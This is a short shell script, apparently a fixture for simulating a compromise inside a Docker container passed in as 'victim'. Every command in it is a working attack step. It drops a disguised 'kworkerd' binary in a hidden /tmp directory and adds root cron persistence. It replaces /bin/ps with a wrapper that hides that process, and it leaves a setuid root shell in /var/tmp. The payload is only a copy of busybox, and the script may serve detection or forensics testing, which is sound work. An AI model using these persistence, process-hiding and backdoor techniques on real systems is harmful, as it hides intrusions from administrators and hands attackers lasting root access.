#!/bin/sh
# The compromise: a coin-miner style payload dropped in /tmp, cron persistence,
# /bin/ps replaced by a wrapper that hides the payload, and a setuid root shell
# left in /var/tmp for later. Runs through docker exec.
set -eu
victim=$1
docker exec -i "$victim" sh -eu <<'ATTACK'
mkdir -p /tmp/.X11-unix/.k
cp /bin/busybox /tmp/.X11-unix/.k/kworkerd
chmod 755 /tmp/.X11-unix/.k/kworkerd
echo '* * * * * /tmp/.X11-unix/.k/kworkerd >/dev/null 2>&1' >> /var/spool/cron/crontabs/root
rm /bin/ps
printf '#!/bin/sh\n/bin/busybox ps "$@" | grep -v kworkerd\n' > /bin/ps
chmod 755 /bin/ps
cp /bin/busybox /var/tmp/.sh
chmod 4755 /var/tmp/.sh
ATTACK
